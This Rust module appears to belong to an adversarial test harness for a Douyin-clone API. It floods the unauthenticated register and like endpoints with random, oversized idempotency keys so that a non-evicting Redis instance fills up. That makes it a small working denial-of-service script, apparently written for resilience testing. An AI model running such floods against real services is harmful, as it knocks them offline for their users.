//! Fills Redis, which must not evict, with idempotency keys of callers without a token.

use std::time::Duration;

use crate::{
    attacker::Attacker,
    source::{client, random_text},
};

const WORKERS: u16 = 8;
/// At most 800 calls per second.
const PAUSE: Duration = Duration::from_millis(10);

pub(super) async fn run(attacker: Attacker) {
    let Ok(client) = client(attacker.address(0)) else { return };
    attacker
        .repeat(WORKERS, PAUSE, async |worker| {
            // Registrations without a password, and likes without a token.
            let path = if worker % 2 == 0 { "/douyin/user/register/" } else { "/douyin/favorite/action/" };
            let form =
                [("username", random_text()), ("video_id", "1".to_owned()), ("action_type", "1".to_owned())];
            let request = client.post(attacker.url(path)).query(&form);
            attacker.call(request.header("idempotency-key", random_text().repeat(8))).await;
        })
        .await;
}
